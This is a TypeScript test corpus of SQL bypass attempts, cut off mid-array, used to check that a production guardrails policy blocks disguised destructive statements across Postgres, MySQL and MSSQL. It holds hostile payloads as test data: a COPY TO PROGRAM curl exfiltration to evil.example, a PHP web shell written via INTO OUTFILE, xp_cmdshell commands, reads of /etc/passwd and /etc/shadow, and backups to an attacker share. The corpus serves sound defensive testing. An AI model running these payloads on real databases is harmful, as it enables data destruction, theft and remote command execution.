// Bypass attempts per dialect: statements a protect-prod policy must catch however they are dressed up.
import type { GuardrailsInput } from '../options.js';

/** The tricks issue #7 names: every dialect's corpus must try each of them. */
export const NAMED_TRICKS = [
  'comments and odd whitespace',
  'quoting and case',
  'several statements',
  'DML inside CTEs',
  'prepared statements',
  'COPY and bulk loads',
  'transactions',
  'EXPLAIN ANALYZE',
  'functions that touch files',
] as const;

export type TrickCategory = (typeof NAMED_TRICKS)[number] | 'stored code and DDL in disguise' | 'unbounded writes' | 'dynamic SQL' | 'not SQL at all';

export interface BypassAttempt {
  readonly sql: string;
  /** The trick it tries. */
  readonly trick: string;
  readonly category: TrickCategory;
  readonly expect: 'deny' | 'hold';
  /** The rule that must catch it: caught for the right reason, not by accident. */
  readonly rule: string;
}

/** The policy the corpus runs against, in environment `prod`: the preset plus a table rule for the quoting tricks. */
export const BYPASS_POLICY: GuardrailsInput = {
  presets: ['protect-prod'],
  rules: [{ name: 'no-payroll', match: { tables: ['payroll'] }, action: 'deny' }],
  approvals: { approvers: ['dba'] },
};

const NO_DROP = 'protect-prod/no-drop';
const UNBOUNDED = 'protect-prod/no-unbounded-write';
const FILES = 'protect-prod/dangerous-functions';
const DDL = 'protect-prod/ddl-needs-approval';
const UNKNOWN = 'unknown-sql';

function tricks(category: TrickCategory, attempts: readonly Omit<BypassAttempt, 'category'>[]): BypassAttempt[] {
  return attempts.map((attempt) => ({ ...attempt, category }));
}

export const POSTGRES_BYPASSES: readonly BypassAttempt[] = [
  ...tricks('comments and odd whitespace', [
    { trick: 'block comment before', sql: '/* routine cleanup */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'comments as separators', sql: 'DROP/**/TABLE/**/orders', expect: 'deny', rule: NO_DROP },
    { trick: 'nested block comments', sql: '/* a /* b */ c */ drop table orders', expect: 'deny', rule: NO_DROP },
    { trick: 'line comment before', sql: '-- just a select\nDROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'tabs, CR/LF and blank lines', sql: '\t\r\n  DrOp\n\n\tTABLE\r\n orders\t;', expect: 'deny', rule: NO_DROP },
    { trick: 'form feed and vertical whitespace', sql: 'truncate\ftable\vorders', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('quoting and case', [
    { trick: 'mixed case', sql: 'dRoP tAbLe OrDeRs', expect: 'deny', rule: NO_DROP },
    { trick: 'quoted table name', sql: 'SELECT * FROM "payroll"', expect: 'deny', rule: 'no-payroll' },
    { trick: 'quoted schema and table', sql: 'select salary from "public"."payroll" p where p.id = 1', expect: 'deny', rule: 'no-payroll' },
    { trick: 'upper-case table', sql: 'SELECT * FROM PAYROLL', expect: 'deny', rule: 'no-payroll' },
    { trick: 'unicode-escaped identifier', sql: 'select * from U&"p\\0061yroll"', expect: 'deny', rule: 'no-payroll' },
    { trick: 'quoted function name', sql: `SELECT "pg_read_file"('/etc/passwd')`, expect: 'deny', rule: FILES },
    { trick: 'upper-case function name', sql: `SELECT PG_READ_FILE('/etc/passwd')`, expect: 'deny', rule: FILES },
    { trick: 'schema-qualified function', sql: `select pg_catalog.pg_read_file('postgresql.conf')`, expect: 'deny', rule: FILES },
  ]),
  ...tricks('several statements', [
    { trick: 'harmless first statement', sql: 'select 1; drop table orders', expect: 'deny', rule: NO_DROP },
    { trick: 'no space after the semicolon', sql: 'select 1;drop table orders;--', expect: 'deny', rule: NO_DROP },
    { trick: 'write after a read', sql: 'select count(*) from orders; delete from orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'DDL hidden after reads', sql: 'select 1; select 2; alter table orders add column x int', expect: 'hold', rule: DDL },
  ]),
  ...tricks('DML inside CTEs', [
    { trick: 'DELETE in a CTE', sql: 'with gone as (delete from orders returning *) select count(*) from gone', expect: 'deny', rule: UNBOUNDED },
    { trick: 'UPDATE in a CTE', sql: 'WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM u', expect: 'deny', rule: UNBOUNDED },
    { trick: 'CTE before a DELETE', sql: 'with x as (select 1) delete from orders', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('prepared statements', [
    { trick: 'PREPARE of an unbounded DELETE', sql: 'prepare wipe as delete from orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'PREPARE of a DROP', sql: 'PREPARE p AS SELECT 1; DROP TABLE orders', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('COPY and bulk loads', [
    { trick: 'COPY to a program', sql: `copy orders to program 'curl -d @- https://evil.example'`, expect: 'deny', rule: FILES },
    { trick: 'COPY from a server file', sql: `COPY orders FROM '/etc/passwd'`, expect: 'deny', rule: FILES },
    { trick: 'COPY of a DELETE', sql: 'copy (delete from orders returning *) to stdout', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('transactions', [
    { trick: 'inside a transaction', sql: 'begin; truncate orders; commit;', expect: 'deny', rule: NO_DROP },
    { trick: 'inside a savepoint', sql: 'BEGIN; SAVEPOINT a; DROP TABLE orders; RELEASE a; COMMIT', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('EXPLAIN ANALYZE', [
    { trick: 'EXPLAIN ANALYZE of a DELETE', sql: 'explain analyze delete from orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'EXPLAIN (ANALYZE) with options', sql: 'EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) UPDATE orders SET total = 1', expect: 'deny', rule: UNBOUNDED },
    { trick: 'EXPLAIN (ANALYZE true)', sql: 'explain (analyze true) delete from orders', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('functions that touch files', [
    { trick: 'file read in a subquery', sql: `select * from (select pg_read_file('/etc/passwd') as f) s`, expect: 'deny', rule: FILES },
    { trick: 'file listing as a table', sql: `select * from pg_ls_dir('.') as files`, expect: 'deny', rule: FILES },
    { trick: 'large object import', sql: `select lo_import('/etc/passwd')`, expect: 'deny', rule: FILES },
    { trick: 'large object export', sql: `select lo_export(16409, '/tmp/x')`, expect: 'deny', rule: FILES },
    { trick: 'binary file read', sql: `select pg_read_binary_file('/etc/shadow')`, expect: 'deny', rule: FILES },
    { trick: 'file stat', sql: `select pg_stat_file('pg_hba.conf')`, expect: 'deny', rule: FILES },
    { trick: 'remote SQL through dblink', sql: `select dblink_exec('host=other', 'drop table orders')`, expect: 'deny', rule: FILES },
    { trick: 'loading a shared library', sql: `load '/tmp/evil.so'`, expect: 'deny', rule: FILES },
    { trick: 'stopping other sessions', sql: 'select pg_terminate_backend(pid) from pg_stat_activity', expect: 'deny', rule: FILES },
  ]),
  ...tricks('dynamic SQL', [
    { trick: 'dynamic SQL in a DO block', sql: `do $$ begin execute 'drop table ' || 'orders'; end $$`, expect: 'deny', rule: UNKNOWN },
    { trick: 'static DROP in a DO block', sql: 'DO $$ BEGIN DROP TABLE orders; END $$', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('stored code and DDL in disguise', [
    { trick: 'SELECT INTO creates a table', sql: 'select * into orders_copy from orders', expect: 'hold', rule: DDL },
    { trick: 'GRANT', sql: 'grant all on orders to public', expect: 'hold', rule: DDL },
    { trick: 'ALTER SYSTEM', sql: `alter system set log_statement = 'none'`, expect: 'hold', rule: DDL },
    { trick: 'function whose body deletes', sql: `create function f() returns void as $$ delete from orders $$ language sql`, expect: 'hold', rule: DDL },
  ]),
  ...tricks('unbounded writes', [
    { trick: 'tautological WHERE', sql: 'delete from orders where 1 = 1', expect: 'deny', rule: UNBOUNDED },
    { trick: 'WHERE true', sql: 'update orders set total = 0 where true', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('not SQL at all', [
    { trick: 'not SQL at all', sql: 'DR0P TABLE orders', expect: 'deny', rule: UNKNOWN },
  ]),
];

export const MYSQL_BYPASSES: readonly BypassAttempt[] = [
  ...tricks('comments and odd whitespace', [
    { trick: 'block comment before', sql: '/* cleanup */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'hash comment before', sql: '# just a select\nDROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'comments as separators', sql: 'DROP/**/TABLE/**/orders', expect: 'deny', rule: NO_DROP },
    { trick: 'comments do not nest in MySQL', sql: '/* a /* b */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'versioned comment runs on the server', sql: 'SELECT 1 /*!50000 ; DROP TABLE orders */', expect: 'deny', rule: NO_DROP },
    { trick: 'whole statement in a versioned comment', sql: '/*!50000 DROP TABLE orders */', expect: 'deny', rule: NO_DROP },
    { trick: 'versioned comment glued to the keyword', sql: '/*!50000DROP*/ TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'executable comment without a version', sql: 'select 1; /*! truncate table orders */', expect: 'deny', rule: NO_DROP },
    { trick: 'MariaDB executable comment', sql: '/*M!100101 DROP TABLE orders */', expect: 'deny', rule: NO_DROP },
    { trick: '-- without a space is two minus signs, not a comment', sql: 'SELECT 1 --1; DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'tabs, CR/LF and blank lines', sql: '\t\r\n  DrOp\n\n\tTABLE\r\n orders\t;', expect: 'deny', rule: NO_DROP },
    { trick: 'form feed and vertical tab', sql: 'truncate\ftable\vorders', expect: 'deny', rule: NO_DROP },
    { trick: 'non-breaking space', sql: 'DELETE\u00a0FROM\u00a0orders', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('quoting and case', [
    { trick: 'mixed case and backticks', sql: 'dRoP TaBlE `orders`', expect: 'deny', rule: NO_DROP },
    { trick: 'backquoted table', sql: 'SELECT * FROM `payroll`', expect: 'deny', rule: 'no-payroll' },
    { trick: 'backquoted database and upper-case table', sql: 'select salary from `hr`.`PAYROLL` p where p.id = 1', expect: 'deny', rule: 'no-payroll' },
    { trick: 'database-qualified table', sql: 'select * from hr.payroll', expect: 'deny', rule: 'no-payroll' },
    { trick: 'spaces around the dot', sql: 'select * from hr . payroll', expect: 'deny', rule: 'no-payroll' },
    { trick: '"quoted" table name (ANSI_QUOTES)', sql: 'SELECT * FROM "payroll"', expect: 'deny', rule: 'no-payroll' },
    { trick: 'upper-case function name', sql: `SELECT LOAD_FILE('/etc/passwd')`, expect: 'deny', rule: FILES },
    { trick: 'backquoted function name', sql: "SELECT `load_file`('/etc/passwd')", expect: 'deny', rule: FILES },
    { trick: 'space and comment before the parenthesis', sql: `select load_file /* x */ ('/etc/passwd')`, expect: 'deny', rule: FILES },
    { trick: 'charset introducer on the literal', sql: `PREPARE s FROM _utf8mb4'DROP TABLE orders'`, expect: 'deny', rule: NO_DROP },
    { trick: 'hex literal as the statement text', sql: `PREPARE s FROM X'44524f50205441424c45206f7264657273'`, expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('several statements', [
    { trick: 'harmless first statement', sql: 'select 1; truncate table orders', expect: 'deny', rule: NO_DROP },
    { trick: 'no space after the semicolon', sql: 'SELECT 1;DROP TABLE orders;#', expect: 'deny', rule: NO_DROP },
    { trick: 'write after a read', sql: 'select count(*) from orders; delete from orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'semicolon inside a string first', sql: "SELECT 'a;b'; DROP TABLE orders", expect: 'deny', rule: NO_DROP },
    { trick: 'semicolon inside a backquoted name first', sql: 'SELECT `a;b` FROM t; DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'backslash quote reads differently under NO_BACKSLASH_ESCAPES', sql: "SELECT 'a\\';DROP TABLE orders;-- '", expect: 'deny', rule: NO_DROP },
    { trick: 'DDL hidden after reads', sql: 'select 1; select 2; alter table orders add column x int', expect: 'hold', rule: DDL },
  ]),
  ...tricks('DML inside CTEs', [
    { trick: 'CTE before a DELETE', sql: 'WITH x AS (SELECT 1) DELETE FROM orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'CTE before an UPDATE', sql: 'with ids as (select id from orders) update orders set total = 0', expect: 'deny', rule: UNBOUNDED },
    { trick: 'CTE before a multi-table DELETE', sql: 'WITH RECURSIVE r AS (SELECT 1 AS n) DELETE o FROM orders o JOIN r ON r.n = 1', expect: 'deny', rule: UNBOUNDED },
    { trick: 'DELETE inside a CTE', sql: 'with gone as (delete from orders returning *) select count(*) from gone', expect: 'deny', rule: UNBOUNDED },
    { trick: 'CTE then DELETE with a tautology', sql: 'WITH x AS (SELECT id FROM orders) DELETE FROM orders WHERE 1 = 1', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('prepared statements', [
    { trick: 'PREPARE of a literal: the literal is read too', sql: `prepare s from 'drop table orders'`, expect: 'deny', rule: NO_DROP },
    { trick: 'PREPARE of a double-quoted literal', sql: 'PREPARE s FROM "DELETE FROM orders"', expect: 'deny', rule: UNBOUNDED },
    { trick: 'PREPARE then EXECUTE in one string', sql: `PREPARE s FROM 'TRUNCATE TABLE orders'; EXECUTE s; DEALLOCATE PREPARE s`, expect: 'deny', rule: NO_DROP },
    { trick: 'PREPARE with placeholders only in WHERE', sql: `PREPARE s FROM 'DELETE FROM orders WHERE ? = ?'`, expect: 'deny', rule: UNBOUNDED },
    { trick: 'dynamic SQL built in a variable', sql: `set @q = concat('drop ', 'table orders'); prepare s from @q; execute s`, expect: 'deny', rule: UNKNOWN },
    { trick: 'EXECUTE of a statement prepared elsewhere', sql: 'SET @a = 1; EXECUTE s USING @a; PREPARE t FROM @sql', expect: 'deny', rule: UNKNOWN },
  ]),
  ...tricks('COPY and bulk loads', [
    { trick: 'LOAD DATA INFILE from a server file', sql: `load data infile '/etc/passwd' into table orders`, expect: 'deny', rule: FILES },
    { trick: 'LOAD DATA with modifiers', sql: `LOAD DATA LOW_PRIORITY INFILE '/var/lib/mysql-files/x.csv' REPLACE INTO TABLE orders`, expect: 'deny', rule: FILES },
    { trick: 'LOAD XML INFILE', sql: `LOAD XML INFILE '/etc/passwd' INTO TABLE orders ROWS IDENTIFIED BY '<row>'`, expect: 'deny', rule: FILES },
    { trick: 'LOAD DATA inside a versioned comment', sql: `/*!50000 LOAD DATA INFILE '/etc/passwd' INTO TABLE orders */`, expect: 'deny', rule: FILES },
    { trick: 'SELECT ... INTO OUTFILE export', sql: `SELECT * INTO OUTFILE '/tmp/orders.csv' FIELDS TERMINATED BY ',' FROM orders`, expect: 'deny', rule: FILES },
    { trick: 'TABLE ... INTO OUTFILE', sql: `TABLE orders INTO OUTFILE '/tmp/orders.csv'`, expect: 'deny', rule: FILES },
  ]),
  ...tricks('transactions', [
    { trick: 'START TRANSACTION around the write', sql: 'start transaction; delete from orders; commit', expect: 'deny', rule: UNBOUNDED },
    { trick: 'BEGIN; ...; COMMIT in one string', sql: 'BEGIN; DROP TABLE orders; COMMIT', expect: 'deny', rule: NO_DROP },
    { trick: 'BEGIN WORK and ROLLBACK', sql: 'BEGIN WORK; UPDATE orders SET total = 0; ROLLBACK WORK', expect: 'deny', rule: UNBOUNDED },
    { trick: 'inside a savepoint', sql: 'SAVEPOINT a; TRUNCATE orders; RELEASE SAVEPOINT a', expect: 'deny', rule: NO_DROP },
    { trick: 'XA transaction', sql: "XA START 'x'; DELETE FROM orders; XA END 'x'; XA PREPARE 'x'; XA COMMIT 'x'", expect: 'deny', rule: UNBOUNDED },
    { trick: 'autocommit off', sql: 'SET autocommit = 0; DELETE FROM orders; COMMIT', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('EXPLAIN ANALYZE', [
    { trick: 'EXPLAIN ANALYZE of a DELETE', sql: 'EXPLAIN ANALYZE DELETE o FROM orders o JOIN customers c ON c.id = o.customer_id', expect: 'deny', rule: UNBOUNDED },
    { trick: 'EXPLAIN ANALYZE FORMAT=TREE of an UPDATE', sql: 'explain analyze format=tree update orders o join customers c on c.id = o.customer_id set o.total = 0', expect: 'deny', rule: UNBOUNDED },
    { trick: 'MariaDB ANALYZE DELETE', sql: 'ANALYZE DELETE FROM orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'MariaDB ANALYZE FORMAT=JSON UPDATE', sql: 'analyze format=json update orders set total = 0 where 1', expect: 'deny', rule: UNBOUNDED },
    { trick: 'DESCRIBE ANALYZE', sql: 'DESCRIBE ANALYZE DELETE FROM orders', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('functions that touch files', [
    { trick: 'reading a server file', sql: `select load_file('/etc/passwd')`, expect: 'deny', rule: FILES },
    { trick: 'reading a server file into a table', sql: `INSERT INTO notes (body) VALUES (LOAD_FILE('/etc/shadow'))`, expect: 'deny', rule: FILES },
    { trick: 'file read after a UNION', sql: `select id, name from customers where id = 1 union select load_file(concat('/etc/', 'passwd')), 2`, expect: 'deny', rule: FILES },
    { trick: 'writing a server file', sql: `select * from orders into outfile '/tmp/orders.csv'`, expect: 'deny', rule: FILES },
    { trick: 'dumping to a server file', sql: `select 'x' into dumpfile '/tmp/x'`, expect: 'deny', rule: FILES },
    { trick: 'web shell through INTO OUTFILE', sql: `SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/x.php'`, expect: 'deny', rule: FILES },
    { trick: 'command execution UDF', sql: `SELECT sys_exec('id')`, expect: 'deny', rule: FILES },
    { trick: 'loading a shared library', sql: `CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqludf_sys.so'`, expect: 'deny', rule: FILES },
    { trick: 'installing a plugin', sql: `INSTALL PLUGIN evil SONAME 'evil.so'`, expect: 'deny', rule: FILES },
  ]),
  ...tricks('stored code and DDL in disguise', [
    { trick: 'procedure whose body drops', sql: 'CREATE PROCEDURE p() BEGIN DROP TABLE orders; END', expect: 'hold', rule: DDL },
    { trick: 'event that deletes later', sql: 'CREATE EVENT e ON SCHEDULE AT CURRENT_TIMESTAMP DO DELETE FROM orders', expect: 'hold', rule: DDL },
    { trick: 'trigger whose body deletes', sql: 'CREATE TRIGGER t AFTER INSERT ON notes FOR EACH ROW DELETE FROM orders', expect: 'hold', rule: DDL },
    { trick: 'MariaDB anonymous block that drops', sql: 'BEGIN NOT ATOMIC DROP TABLE orders; END', expect: 'deny', rule: NO_DROP },
    { trick: 'ALTER', sql: 'alter table orders add column note text', expect: 'hold', rule: DDL },
    { trick: 'RENAME TABLE', sql: 'RENAME TABLE orders TO orders_gone', expect: 'hold', rule: DDL },
    { trick: 'GRANT', sql: "GRANT ALL ON *.* TO 'app'@'%'", expect: 'hold', rule: DDL },
  ]),
  ...tricks('unbounded writes', [
    { trick: 'unbounded DELETE', sql: 'delete from orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'tautological WHERE', sql: 'UPDATE orders SET total = 0 WHERE 1', expect: 'deny', rule: UNBOUNDED },
    { trick: 'LIMIT is not a WHERE', sql: 'DELETE FROM orders ORDER BY id LIMIT 1000000', expect: 'deny', rule: UNBOUNDED },
    { trick: 'WHERE on a variable', sql: 'UPDATE orders SET total = 0 WHERE @x = @x', expect: 'deny', rule: UNBOUNDED },
    { trick: 'multi-table DELETE without WHERE', sql: 'DELETE orders FROM orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'TRUNCATE without TABLE', sql: 'truncate orders', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('not SQL at all', [{ trick: 'not SQL at all', sql: 'DR0P TABLE orders', expect: 'deny', rule: UNKNOWN }]),
];

export const MSSQL_BYPASSES: readonly BypassAttempt[] = [
  ...tricks('comments and odd whitespace', [
    { trick: 'block comment before', sql: '/* cleanup */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'line comment before', sql: '-- a select\nDROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'comments as separators', sql: 'DROP/**/TABLE/**/orders', expect: 'deny', rule: NO_DROP },
    { trick: 'nested block comments', sql: '/* a /* b */ c */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'nested comment opened twice, closed once', sql: '/* a /* b */ DROP TABLE orders', expect: 'deny', rule: UNKNOWN },
    { trick: 'tabs, CR/LF and blank lines', sql: '\t\r\n  DrOp\n\n\tTABLE\r\n [orders]\t;', expect: 'deny', rule: NO_DROP },
    { trick: 'form feed and vertical tab', sql: 'TRUNCATE\fTABLE\vorders', expect: 'deny', rule: NO_DROP },
    { trick: 'non-breaking space', sql: 'DELETE\u00a0FROM\u00a0orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'GO is no separator to the server', sql: 'SELECT 1\nGO\nDROP TABLE orders', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('quoting and case', [
    { trick: 'bracket-quoted names and case', sql: 'dRoP TaBlE [dbo].[orders]', expect: 'deny', rule: NO_DROP },
    { trick: 'bracket-quoted table', sql: 'SELECT * FROM [hr].[payroll]', expect: 'deny', rule: 'no-payroll' },
    { trick: '"quoted" identifiers', sql: 'SELECT * FROM "hr"."PayRoll"', expect: 'deny', rule: 'no-payroll' },
    { trick: 'database..table', sql: 'select * from hr..payroll', expect: 'deny', rule: 'no-payroll' },
    { trick: 'four-part name through a linked server', sql: 'SELECT * FROM [srv].[app].[hr].[payroll]', expect: 'deny', rule: 'no-payroll' },
    { trick: 'bracket-quoted procedure', sql: `EXEC [master].[dbo].[xp_cmdshell] 'whoami'`, expect: 'deny', rule: FILES },
    { trick: 'upper-case procedure', sql: `EXEC MASTER.DBO.XP_CMDSHELL 'whoami'`, expect: 'deny', rule: FILES },
    { trick: 'TOP (n) before the table name', sql: 'UPDATE TOP (10) payroll SET salary = 0 WHERE id > 0', expect: 'deny', rule: 'no-payroll' },
    { trick: 'N-prefixed unicode literal', sql: `EXEC(N'DROP TABLE orders')`, expect: 'deny', rule: NO_DROP },
    { trick: 'statement text from NCHAR() code points', sql: `EXEC(NCHAR(68) + N'ROP TABLE orders')`, expect: 'deny', rule: UNKNOWN },
  ]),
  ...tricks('several statements', [
    { trick: 'harmless first statement', sql: 'SELECT 1; TRUNCATE TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'no semicolon between statements', sql: 'SELECT 1 DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'write after a read without a semicolon', sql: 'SELECT * FROM orders WHERE id = 1 DELETE FROM orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'semicolon inside a string first', sql: "SELECT 'a;b' DROP TABLE orders", expect: 'deny', rule: NO_DROP },
    { trick: 'semicolon inside a bracketed name first', sql: 'SELECT [a;b] FROM t; DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'DDL hidden after reads', sql: 'SELECT 1; SELECT 2; ALTER TABLE orders ADD x int', expect: 'hold', rule: DDL },
  ]),
  ...tricks('DML inside CTEs', [
    { trick: 'DELETE through a CTE', sql: 'WITH x AS (SELECT TOP 10 * FROM orders) DELETE FROM x', expect: 'deny', rule: UNBOUNDED },
    { trick: 'CTE before an UPDATE', sql: 'WITH c AS (SELECT 1 AS n) UPDATE orders SET total = 0', expect: 'deny', rule: UNBOUNDED },
    { trick: 'leading semicolon and a tautology', sql: ';WITH x AS (SELECT id FROM orders) DELETE FROM orders WHERE 1 = 1', expect: 'deny', rule: UNBOUNDED },
    { trick: 'UPDATE through a CTE alias', sql: 'WITH o AS (SELECT * FROM orders) UPDATE o SET total = 0', expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('prepared statements', [
    { trick: 'sp_executesql of a literal: the literal is read too', sql: `EXEC sp_executesql N'DROP TABLE orders'`, expect: 'deny', rule: NO_DROP },
    { trick: 'sp_executesql with a named parameter', sql: `EXECUTE sp_executesql @stmt = N'TRUNCATE TABLE orders'`, expect: 'deny', rule: NO_DROP },
    { trick: 'sp_executesql schema-qualified, with parameters', sql: `EXEC sys.sp_executesql N'DELETE FROM orders WHERE @a = @a', N'@a int', @a = 1`, expect: 'deny', rule: UNBOUNDED },
    { trick: 'sp_executesql with a return value', sql: `EXEC @rc = sp_executesql N'DROP TABLE orders'`, expect: 'deny', rule: NO_DROP },
    { trick: 'sp_executesql without EXEC, first in the batch', sql: `sp_executesql N'DROP TABLE orders'`, expect: 'deny', rule: NO_DROP },
    { trick: 'sp_executesql of a variable', sql: 'EXEC sp_executesql @stmt', expect: 'deny', rule: UNKNOWN },
    { trick: 'sp_executesql of concatenated text', sql: `DECLARE @s nvarchar(max) = N'DELETE FROM ' + N'orders'; EXEC sp_executesql @s`, expect: 'deny', rule: UNKNOWN },
    { trick: 'sp_prepexec of a DELETE', sql: `DECLARE @h int; EXEC sp_prepexec @h OUTPUT, NULL, N'DELETE FROM orders'`, expect: 'deny', rule: UNBOUNDED },
    { trick: 'sp_prepare then sp_execute', sql: `DECLARE @h int; EXEC sp_prepare @h OUTPUT, NULL, N'DROP TABLE orders'; EXEC sp_execute @h`, expect: 'deny', rule: NO_DROP },
    { trick: 'sp_execute of a handle prepared elsewhere', sql: 'EXEC sp_execute 1', expect: 'deny', rule: UNKNOWN },
    { trick: 'EXEC() of a literal: the literal is read too', sql: `EXEC('DROP TABLE orders')`, expect: 'deny', rule: NO_DROP },
    { trick: 'EXEC() of concatenated literals', sql: `EXECUTE ('DR' + 'OP TABLE ' + 'orders')`, expect: 'deny', rule: NO_DROP },
    { trick: 'EXEC() of a literal on a linked server', sql: `EXEC ('DELETE FROM orders') AT [remote]`, expect: 'deny', rule: UNBOUNDED },
    { trick: 'nested dynamic SQL', sql: `EXEC sp_executesql N'EXEC sp_executesql N''DROP TABLE orders'''`, expect: 'deny', rule: NO_DROP },
    { trick: 'dynamic SQL built in a variable', sql: `DECLARE @s nvarchar(100) = N'DROP TABLE ' + N'orders'; EXEC(@s)`, expect: 'deny', rule: UNKNOWN },
    { trick: 'procedure name in a variable', sql: `DECLARE @p sysname = N'xp_cmdshell'; EXEC @p 'whoami'`, expect: 'deny', rule: UNKNOWN },
  ]),
  ...tricks('COPY and bulk loads', [
    { trick: 'BULK INSERT from a server file', sql: `BULK INSERT orders FROM 'c:\\data\\orders.csv'`, expect: 'deny', rule: FILES },
    { trick: 'BULK INSERT from a share, bracketed', sql: `bulk insert [dbo].[orders] from '\\\\attacker\\share\\x.csv' with (format = 'CSV')`, expect: 'deny', rule: FILES },
    { trick: 'OPENROWSET(BULK) read of a file', sql: `SELECT BulkColumn FROM OPENROWSET(BULK N'C:\\Windows\\win.ini', SINGLE_CLOB) AS f`, expect: 'deny', rule: FILES },
    { trick: 'INSERT ... SELECT from OPENROWSET(BULK)', sql: `INSERT INTO orders SELECT * FROM OPENROWSET(BULK 'c:\\x.csv', FORMATFILE = 'c:\\x.fmt') AS r`, expect: 'deny', rule: FILES },
    { trick: 'INSERT ... EXEC of a shell command', sql: `INSERT INTO notes EXEC xp_cmdshell 'type c:\\secrets.txt'`, expect: 'deny', rule: FILES },
  ]),
  ...tricks('transactions', [
    { trick: 'BEGIN TRAN; ...; COMMIT in one string', sql: 'BEGIN TRAN; DROP TABLE orders; COMMIT', expect: 'deny', rule: NO_DROP },
    { trick: 'transaction without semicolons', sql: 'BEGIN TRANSACTION DELETE FROM orders COMMIT TRANSACTION', expect: 'deny', rule: UNBOUNDED },
    { trick: 'distributed transaction', sql: 'BEGIN DISTRIBUTED TRANSACTION; TRUNCATE TABLE orders; COMMIT', expect: 'deny', rule: NO_DROP },
    { trick: 'inside a savepoint', sql: 'SAVE TRANSACTION s; DELETE orders; ROLLBACK TRANSACTION s', expect: 'deny', rule: UNBOUNDED },
    { trick: 'implicit transactions', sql: 'SET IMPLICIT_TRANSACTIONS ON; UPDATE orders SET total = 0; COMMIT', expect: 'deny', rule: UNBOUNDED },
    { trick: 'inside TRY/CATCH', sql: 'BEGIN TRY BEGIN TRAN; DROP TABLE orders; COMMIT END TRY BEGIN CATCH ROLLBACK END CATCH', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('EXPLAIN ANALYZE', [
    // SQL Server's EXPLAIN ANALYZE: the statement runs and its actual plan comes back with the results.
    { trick: 'SET STATISTICS PROFILE ON runs the DELETE', sql: 'SET STATISTICS PROFILE ON; DELETE FROM orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'SET STATISTICS XML ON runs the UPDATE', sql: 'SET STATISTICS XML ON UPDATE orders SET total = 0 SET STATISTICS XML OFF', expect: 'deny', rule: UNBOUNDED },
    { trick: 'SET SHOWPLAN_XML ON before a DROP', sql: 'SET SHOWPLAN_XML ON; DROP TABLE orders', expect: 'deny', rule: NO_DROP },
  ]),
  ...tricks('functions that touch files', [
    { trick: 'shell through xp_cmdshell', sql: `EXEC xp_cmdshell 'dir c:\\'`, expect: 'deny', rule: FILES },
    { trick: 'shell through master..xp_cmdshell', sql: `exec master..xp_cmdshell 'whoami'`, expect: 'deny', rule: FILES },
    { trick: 'xp_cmdshell without EXEC, first in the batch', sql: `xp_cmdshell 'whoami'`, expect: 'deny', rule: FILES },
    { trick: 'switching xp_cmdshell on', sql: `EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE`, expect: 'deny', rule: FILES },
    { trick: 'directory listing of a share', sql: `EXEC master.sys.xp_dirtree '\\\\attacker\\share'`, expect: 'deny', rule: FILES },
    { trick: 'ad-hoc remote rowset', sql: `SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'SELECT 1')`, expect: 'deny', rule: FILES },
    { trick: 'SQL run on a linked server', sql: `SELECT * FROM OPENQUERY(remote, 'SELECT * FROM orders')`, expect: 'deny', rule: FILES },
    { trick: 'ad-hoc data source', sql: `SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x;Integrated Security=SSPI').app.dbo.orders`, expect: 'deny', rule: FILES },
    { trick: 'OLE automation', sql: `DECLARE @o int; EXEC sp_OACreate 'WScript.Shell', @o OUT`, expect: 'deny', rule: FILES },
    { trick: 'backup to a share', sql: `BACKUP DATABASE app TO DISK = '\\\\attacker\\share\\app.bak'`, expect: 'deny', rule: FILES },
